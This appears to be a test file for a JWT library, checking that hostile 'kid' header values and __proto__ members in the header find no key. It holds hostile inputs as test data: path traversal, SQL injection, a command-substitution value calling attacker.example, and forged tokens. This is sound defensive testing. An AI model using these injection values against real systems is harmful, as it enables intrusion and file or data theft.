/**
 * kid injection: the kid header is attacker-chosen text. Used as a path, an SQL fragment or an object key
 * it can read files, bypass lookups or reach prototype members. Tessera looks kids up by exact string in a
 * Map, so a hostile kid finds nothing unless a key has that exact id, and a non-string kid is refused.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import {
  AlgorithmNotAllowedError,
  generateKey,
  KeyNotFoundError,
  KeySet,
  TokenTooLargeError,
  UnsupportedHeaderError,
} from '@tessera/core';

import { accessVerifier, claims, encodePart, forge, headerFor, signature } from '../helpers/forge.js';
import { rejects } from '../helpers/rejects.js';

const NOT_FOUND = { code: 'ERR_KEY_NOT_FOUND' };

const k1 = generateKey('ES256', { kid: 'k1' });
const k2 = generateKey('ES256', { kid: 'k2' });
const a = generateKey('ES256', { kid: 'a' });
const passwd = generateKey('ES256', { kid: '../../etc/passwd' });
const set = new KeySet([k1, k2, a, passwd]);
const verifier = accessVerifier(['ES256']);

const HOSTILE: Record<string, string> = {
  'a path traversal': '../../etc/passwd\u0000',
  'an absolute path': '/etc/passwd',
  'a URL': 'https://attacker.example/jwks.json',
  'SQL injection': "' OR 1=1 --",
  'SQL injection with a union': "k1' UNION SELECT 'secret' --",
  'a command': '$(curl attacker.example)',
  __proto__: '__proto__',
  constructor: 'constructor',
  toString: 'toString',
  hasOwnProperty: 'hasOwnProperty',
  valueOf: 'valueOf',
  'an empty string': '',
  'a NUL after a real kid': 'a\u0000b',
  'a real kid with a trailing space': 'k1 ',
  'a real kid in upper case': 'K1',
  'a real kid with a zero-width space': 'k\u200b1',
  'a lone surrogate': '\ud800',
};

describe('kid injection', () => {
  for (const [what, kid] of Object.entries(HOSTILE)) {
    it(`${what} (${JSON.stringify(kid)}) finds no key, even in a token signed by a real key`, () => {
      for (const signer of [k1, a, passwd]) {
        const token = forge(headerFor(signer, { kid }), claims(), signer);
        rejects(() => verifier.verifyAccessToken(token, set), KeyNotFoundError, NOT_FOUND);
      }
    });
  }

  it("a kid that exactly equals a key's hostile-looking kid finds that key and only that key", () => {
    const token = forge(headerFor(passwd), claims(), passwd);
    assert.equal(verifier.verifyAccessToken(token, set).key.kid, '../../etc/passwd');
    const traversed = forge(headerFor(passwd, { kid: '../../../etc/passwd' }), claims(), passwd);
    rejects(() => verifier.verifyAccessToken(traversed, set), KeyNotFoundError, NOT_FOUND);
  });

  it('a key whose kid is __proto__ is found by exactly that kid, and constructor finds nothing', () => {
    const proto = generateKey('ES256', { kid: '__proto__' });
    const protoSet = new KeySet([proto, k1]);
    assert.equal(verifier.verifyAccessToken(forge(headerFor(proto), claims(), proto), protoSet).key.kid, '__proto__');
    rejects(
      () => verifier.verifyAccessToken(forge(headerFor(proto, { kid: 'constructor' }), claims(), proto), protoSet),
      KeyNotFoundError,
      NOT_FOUND,
    );
  });

  it('a 10,000-character kid is refused for size by default, and finds no key under a larger limit', () => {
    const token = forge(headerFor(k1, { kid: 'k'.repeat(10_000) }), claims(), k1);
    rejects(() => verifier.verifyAccessToken(token, set), TokenTooLargeError, { code: 'ERR_TOKEN_TOO_LARGE', limit: 8192 });
    rejects(
      () => accessVerifier(['ES256'], { maxTokenLength: 65_536 }).verifyAccessToken(token, set),
      KeyNotFoundError,
      NOT_FOUND,
    );
  });

  for (const [what, kid] of [
    ['a number', 1],
    ['zero', 0],
    ['an object', { kid: 'k1' }],
    ['an array', ['k1']],
    ['an empty array', []],
    ['null', null],
    ['a boolean', true],
  ] as const) {
    it(`a kid that is ${what} is refused as an unsupported header`, () => {
      const token = forge(headerFor(k1, { kid }), claims(), k1);
      for (const keys of [set, k1.publicKey(), () => k1.publicKey()]) {
        rejects(() => verifier.verifyAccessToken(token, keys), UnsupportedHeaderError, {
          code: 'ERR_HEADER_UNSUPPORTED',
          parameter: 'kid',
        });
      }
    });
  }
});

describe('__proto__ in the header', () => {
  /** A token whose header JSON is written by hand, so that `__proto__` is a member name, not a prototype. */
  function withHeaderText(text: string): string {
    const input = `${encodePart(text)}.${encodePart(claims())}`;
    return `${input}.${signature('ES256', k1, input).toString('base64url')}`;
  }

  it('a kid hidden in a __proto__ member is not the kid', () => {
    const token = withHeaderText('{"alg":"ES256","typ":"at+jwt","__proto__":{"kid":"k1"}}');
    rejects(() => verifier.verifyAccessToken(token, set), KeyNotFoundError, NOT_FOUND);
    const { header } = verifier.verifyAccessToken(token, new KeySet([k1]));
    assert.equal(header.kid, undefined);
    assert.equal(Object.getPrototypeOf(header), Object.prototype);
    assert.equal(({} as Record<string, unknown>).kid, undefined);
  });

  it('an alg hidden in a __proto__ member is not the alg', () => {
    const token = withHeaderText('{"__proto__":{"alg":"ES256"},"typ":"at+jwt","kid":"k1"}');
    rejects(() => verifier.verifyAccessToken(token, set), AlgorithmNotAllowedError, { code: 'ERR_ALG_NOT_ALLOWED' });
  });
});
